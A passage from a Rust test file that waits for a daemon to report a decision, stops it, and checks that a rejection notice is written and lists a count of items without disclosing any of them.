            stderr(&out).contains("is decided") && t.elapsed() < T,
            "{}",
            stderr(&out)
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(d.stop().success());
    let rejected = notice_file(&notices, &qid, "rejected.json");
    assert!(rejected.is_file());
    assert_no_item("a rejection without disclosure");
    let nr: Value = serde_json::from_slice(&std::fs::read(&rejected).unwrap()).unwrap();
    assert!(nr["items_listed_total"].as_u64().unwrap() > 30);
    assert_eq!(nr["items"].as_array().unwrap().len(), 0);
    validate_notices(&notices);
}
